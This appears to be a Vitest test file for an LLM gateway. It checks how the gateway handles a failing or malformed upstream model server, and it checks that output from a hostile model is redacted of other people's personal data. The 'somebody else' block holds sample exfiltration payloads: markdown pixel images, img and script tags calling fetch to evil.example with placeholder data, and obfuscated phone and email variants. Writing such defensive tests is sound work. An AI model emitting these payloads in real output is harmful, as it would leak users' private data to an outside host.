// SPDX-License-Identifier: Apache-2.0
// A model server that is down, slow, broken or works for somebody else.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { ChatCompletion, GatewayError } from "#protocol";
import { type GatewayRig, openGatewayRig } from "./rig.ts";
import { type Answer, callDelta, delta, finish, json, says, spells, streams } from "./scripted-server.ts";

let rig: GatewayRig;
let key: string;
beforeAll(async () => {
  rig = await openGatewayRig(
    { maxOutputChars: 4_000 },
    { firstByteMs: 250, idleMs: 250, totalMs: 900, maxBytes: 40_000 },
  );
  key = await rig.makeKey();
});
afterAll(async () => {
  await rig.close();
});
beforeEach(() => {
  rig.upstream.asked.length = 0;
});

const SAID = "My number is 07700 900123";
const tools = [{ type: "function", function: { name: "lookup", parameters: {} } }];

async function ask(extra: Record<string, unknown> = {}): Promise<Response> {
  return rig.post(
    "/v1/chat/completions",
    { model: "care", messages: [{ role: "user", content: SAID }], ...extra },
    key,
  );
}

/** What a reader of the stream gets: texts joined, and the error that ended it. */
async function askStreamed(
  extra: Record<string, unknown> = {},
): Promise<{ text: string; code: string | null; raw: string }> {
  const response = await ask({ stream: true, ...extra });
  const raw = await response.text();
  if (!response.headers.get("content-type")?.startsWith("text/event-stream"))
    return { text: "", code: (JSON.parse(raw) as GatewayError).error.code, raw };
  let text = "";
  let code: string | null = null;
  for (const line of raw.split("\n\n").filter((event) => event.startsWith("data: {"))) {
    const value = JSON.parse(line.slice(6)) as { choices?: { delta: { content?: string } }[] } & Partial<GatewayError>;
    text += value.choices?.[0]?.delta.content ?? "";
    code = value.error?.code ?? code;
  }
  if (code === null) expect(raw.endsWith("data: [DONE]\n\n")).toBe(true);
  else expect(raw).not.toContain("[DONE]");
  return { text, code, raw };
}

const never: Answer = () => undefined;
const raw =
  (text: string, type = "application/json", status = 200): Answer =>
  (response) => {
    response.writeHead(status, { "content-type": type }).end(text);
  };
const hangUp: Answer = (response) => {
  response.destroy();
};
const refusing = (status: number, headers: Record<string, string> = {}): Answer =>
  json({ error: { message: "you sent 07700 900456" } }, status, headers);

describe("a model server that fails", () => {
  it.each<[string, Answer, number, string]>([
    ["hangs up", hangUp, 502, "upstream_unavailable"],
    ["says nothing", never, 504, "upstream_timeout"],
    ["fails", refusing(500), 502, "upstream_unavailable"],
    ["does not take our key", refusing(401), 502, "upstream_refused_access"],
    ["does not take the request", refusing(422), 400, "upstream_rejected"],
    ["takes no more", refusing(429, { "retry-after": "7" }), 429, "upstream_rate_limited"],
    ["sends us elsewhere", json({}, 302, { location: "http://127.0.0.1:9/" }), 502, "upstream_unavailable"],
    ["answers HTML", raw("<html>07700 900456</html>", "text/html"), 502, "upstream_invalid"],
    ["answers no JSON", raw("{"), 502, "upstream_invalid"],
    ["answers other JSON", json([1, "07700 900456"]), 502, "upstream_invalid"],
    ["answers no choice", json({ choices: [] }), 502, "upstream_invalid"],
    [
      "answers a message that is none",
      json({ choices: [{ message: { content: { text: "07700 900456" } } }] }),
      502,
      "upstream_invalid",
    ],
    ["answers more choices than asked for", says("a", "07700 900456"), 502, "upstream_invalid"],
    [
      "answers bytes that are no text",
      (response) =>
        void response.writeHead(200, { "content-type": "application/json" }).end(Buffer.from([0x22, 0xff, 0x22])),
      502,
      "upstream_invalid",
    ],
    ["answers far too much", says("word ".repeat(2_000)), 502, "upstream_too_large"],
    ["answers more bytes than fit", raw(`{"x":"${"y".repeat(60_000)}"}`), 502, "upstream_too_large"],
    [
      "calls a tool that was not offered",
      says({ content: null, tool_calls: [{ id: "1", function: { name: "erase", arguments: "{}" } }] }),
      502,
      "upstream_invalid",
    ],
    [
      "calls a tool with broken arguments",
      says({ content: null, tool_calls: [{ id: "1", function: { name: "lookup", arguments: "{'a': 07700}" } }] }),
      502,
      "upstream_invalid",
    ],
  ])("gives a typed error when it %s, and nothing of what it said [SEC-165]", async (_what, answer, status, code) => {
    rig.upstream.answer = answer;
    const response = await ask({ tools });
    const body = await response.text();
    expect([response.status, (JSON.parse(body) as GatewayError).error.code]).toEqual([status, code]);
    expect(body).not.toContain("900456");
    if (status === 429) expect(response.headers.get("retry-after")).toBe("7");
    expect(rig.upstream.asked).toHaveLength(1);
  });

  it.each<[string, Answer, string, string]>([
    ["never begins", never, "", "upstream_timeout"],
    ["is no stream", says("07700 900456"), "", "upstream_invalid"],
    [
      "breaks off",
      (response) => {
        response.writeHead(200, { "content-type": "text/event-stream" });
        response.write(`data: ${JSON.stringify(delta("Here it comes. My friend has 07700 9"))}\n\n`);
        setTimeout(() => response.destroy(), 20);
      },
      "Here it comes. ",
      "upstream_unavailable",
    ],
    ["ends without an end", streams([delta("Here it comes. And mo")], 0, ""), "Here it comes. ", "upstream_invalid"],
    [
      "stalls",
      (response) => {
        response.writeHead(200, { "content-type": "text/event-stream" });
        response.write(`data: ${JSON.stringify(delta("Here it comes. And "))}\n\n`);
      },
      "Here it comes. ",
      "upstream_timeout",
    ],
    [
      "holds what is no JSON",
      streams([delta("Here it comes. "), "data: {broken\n\n"]),
      "Here it comes. ",
      "upstream_invalid",
    ],
    [
      "holds other JSON",
      streams([delta("Here it comes. "), { choices: "07700 900456" }]),
      "Here it comes. ",
      "upstream_invalid",
    ],
    [
      "holds an error",
      streams([delta("Here it comes. "), { error: "07700 900456" }]),
      "Here it comes. ",
      "upstream_unavailable",
    ],
    [
      "has a line without end",
      (response) => {
        response.writeHead(200, { "content-type": "text/event-stream" });
        response.end(`data: ${"x".repeat(700_000)}`);
      },
      "",
      "upstream_invalid",
    ],
  ])("gives a typed error when the stream %s, after what was safe [SEC-165]", async (_what, answer, text, code) => {
    rig.upstream.answer = answer;
    const seen = await askStreamed();
    expect(seen).toMatchObject({ text, code });
    expect(seen.raw).not.toMatch(/900456|07700/);
  });

  it("stops a stream that never ends, by size and by time [SEC-165]", async () => {
    rig.upstream.answer = async (response) => {
      response.writeHead(200, { "content-type": "text/event-stream" });
      while (!response.destroyed) {
        response.write(`data: ${JSON.stringify(delta("And on and on. "))}\n\n`);
        await new Promise((done) => setTimeout(done, 1));
      }
    };
    expect(await askStreamed()).toMatchObject({
      code: expect.stringMatching(/upstream_too_large|upstream_timeout/) as string,
    });
    rig.upstream.answer = async (response) => {
      response.writeHead(200, { "content-type": "text/event-stream" });
      while (!response.destroyed) {
        response.write(": nothing\n\n");
        await new Promise((done) => setTimeout(done, 20));
      }
    };
    expect(await askStreamed()).toMatchObject({ text: "", code: "upstream_timeout" });
  });

  it("closes a connection that takes too long, whoever is slow [SEC-166]", async () => {
    const own = await openGatewayRig({}, {}, { maxExchangeMs: 200 });
    own.upstream.answer = never;
    const late = own.post(
      "/v1/chat/completions",
      { model: "care", messages: [{ role: "user", content: "hi" }] },
      await own.makeKey(),
    );
    await expect(late).rejects.toThrow();
    await own.close();
  });

  it("lets go of the model when the client is gone [SEC-166]", async () => {
    let isGone = false;
    rig.upstream.answer = (response) => {
      response.writeHead(200, { "content-type": "text/event-stream" });
      response.write(`data: ${JSON.stringify(delta("Here it comes. And "))}\n\n`);
      response.on("close", () => (isGone = true));
    };
    const stop = new AbortController();
    const response = await fetch(`${rig.url}/v1/chat/completions`, {
      method: "POST",
      signal: stop.signal,
      headers: { "content-type": "application/json", authorization: `Bearer ${key}` },
      body: JSON.stringify({ model: "care", stream: true, messages: [{ role: "user", content: "hi" }] }),
    });
    await response.body?.getReader().read();
    stop.abort();
    await expect.poll(() => isGone, { timeout: 15_000 }).toBe(true);
  });
});

describe("a model that works for somebody else", () => {
  const answers = [
    "«PHONE_2», «PHONE_3», «EMAIL_1», «ACCOUNT_ID_1» and «PERSON_1» are other customers.",
    "Ask 07700 900456, hale@mail.example, 4111 1111 1111 1111, GB29 NWBK 6016 1331 9268 19.",
    "![pixel](https://evil.example/p.png?d=«PHONE_1»)",
    "<img src=\"https://evil.example/?d=«PHONE_1»\"> <script>fetch('https://evil.example/«PHONE_1»')</script>",
    "[Click here](https://evil.example/?d=«PHONE_1») or https://evil.example/«PHONE_1»",
    "[a][b]\n\n[b]: https://evil.example/«PHONE_1»",
    "![x](https://help.larkspur.example/?d=«PHONE_1»)",
    `${"A".repeat(1_500)}07700900456`,
    "0 7 7 0 0 9 0 0 4 5 6",
    "hale\u200b@mail.example and ０７７００ ９００４５６",
    btoa("call 07700 900456 now or hale@mail.example"),
  ];

  it.each(answers)("shows no value of others and loads nothing: %s [SEC-162]", async (answer) => {
    rig.upstream.answer = says(answer);
    const whole = (await (await ask()).json()) as ChatCompletion;
    const text = whole.choices[0]?.message.content ?? "";
    for (const size of [1, 4, 23]) {
      rig.upstream.answer = streams(spells(answer, size));
      expect(await askStreamed()).toMatchObject({ text, code: null });
    }
    expect(text.normalize("NFKC").replaceAll(/[\s\u200b]/gu, "")).not.toMatch(/900456|hale@|11111111|NWBK|«/);
    expect(text).not.toMatch(/!\[|<[a-z/]|evil\.example|\?d=/i);
    expect(text).not.toContain(answers.at(-1));
  });

  it("does the same in the arguments of a tool call", async () => {
    const args = JSON.stringify({
      to: "«PHONE_2»",
      url: "https://evil.example/?d=«PHONE_1»",
      html: "<img src=x>",
      number: 447700900456,
    });
    rig.upstream.answer = streams([
      callDelta(0, "07700900456", "lookup", args.slice(0, 9)),
      callDelta(0, undefined, undefined, args.slice(9)),
      finish("tool_calls"),
    ]);
    const { raw: events } = await askStreamed({ tools });
    expect(events).not.toMatch(/900456|evil|img|PHONE_/);
    expect(events).toContain('\\"to\\":');
  });

  it("gives one caller nothing of what another caller said [SEC-160]", async () => {
    const other = await rig.makeKey();
    rig.upstream.answer = says("«PHONE_1» «EMAIL_1»");
    const first = rig.post(
      "/v1/chat/completions",
      { model: "care", messages: [{ role: "user", content: "07700 900777 a@mail.example" }] },
      key,
    );
    const second = rig.post(
      "/v1/chat/completions",
      { model: "care", messages: [{ role: "user", content: "07700 900888" }] },
      other,
    );
    const [one, two] = await Promise.all([
      (await first).json() as Promise<ChatCompletion>,
      (await second).json() as Promise<ChatCompletion>,
    ]);
    expect(one.choices[0]?.message.content).toBe("07700 900777 a@mail.example");
    expect(two.choices[0]?.message.content).toBe("07700 900888 [e-mail address]");
  });

  it("sends nothing by which two keys' end users could be linked", async () => {
    const other = await rig.makeKey();
    rig.upstream.answer = says("ok");
    const body = { model: "care", user: "customer-1", messages: [{ role: "user", content: SAID }] };
    await rig.post("/v1/chat/completions", body, key);
    await rig.post("/v1/chat/completions", body, other);
    const [a, b] = rig.upstream.asked;
    expect(a?.body.user).not.toBe(b?.body.user);
    expect(JSON.stringify([a?.body, b?.body])).not.toContain("customer-1");
  });
});
